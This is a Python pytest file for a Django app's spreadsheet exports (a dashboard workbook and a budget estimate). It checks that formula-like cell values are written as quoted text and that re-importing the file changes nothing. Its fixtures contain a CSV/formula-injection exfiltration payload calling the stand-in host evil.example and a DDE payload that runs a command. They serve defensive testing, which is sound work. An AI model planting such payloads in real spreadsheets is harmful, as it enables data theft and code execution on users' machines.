"""The upgrades' spreadsheets write no formula: the dashboard workbook and the budget estimate file.

A title, a name, a description or a unit that begins with "=", "+", "-", "@", a tab or a carriage
return is written as text with a leading quote; amounts stay numbers, a negative one too; the
estimate file, imported back unchanged, changes nothing.
"""

import pytest
from django.urls import reverse

from tests.spreadsheet_cells import xlsx_formulas, xlsx_values
from tests.upgrades.test_upgrades_xlsx import admin_export, admin_import, sheet_rows
from upgrades.models import BudgetLine, WorkItem

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
DDE = "+cmd|' /C calc'!A0"


def test_the_dashboard_workbook_writes_no_formula(
    client, office_user, django_user_model, fixed_today, empty_plan, room, make_item, make_line, make_expense
):
    owner = django_user_model.objects.create_user("owner", first_name="=1+2", is_staff=True)
    item = make_item(title=HYPERLINK, venue=room, owner=owner)
    line = make_line(item, unit_price=100_000, approved=100_000, description="@SUM(1+1)")
    make_expense(line, 250_000)  # overspent: 150.000 đồng less than nothing remain
    client.force_login(office_user)

    content = client.get(reverse("upgrades:export")).content

    assert xlsx_formulas(content) == []
    values = xlsx_values(content)
    assert {"'" + HYPERLINK, "'=1+2"} <= values
    assert -150_000 in values


def test_the_budget_estimate_writes_no_formula_and_imports_back_unchanged(client, office_user, make_line):
    item = WorkItem.objects.get(code="PTT-02")
    make_line(item, description=HYPERLINK, unit=DDE, quantity="2", unit_price=1_000_000)
    make_line(item, description="-2+3", unit="\tm²", quantity="1", unit_price=500_000)
    client.force_login(office_user)
    before = list(BudgetLine.objects.order_by("pk").values())

    content = admin_export(client)

    assert xlsx_formulas(content) == []
    rows = sheet_rows(content)
    assert ["'" + HYPERLINK, "'" + DDE, 2, 1_000_000, 2_000_000] in [row[3:8] for row in rows]
    assert ["'-2+3", "'\tm²", 1, 500_000, 500_000] in [row[3:8] for row in rows]
    result = admin_import(client, content).context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == len(before) and result.totals["update"] == 0
    assert list(BudgetLine.objects.order_by("pk").values()) == before
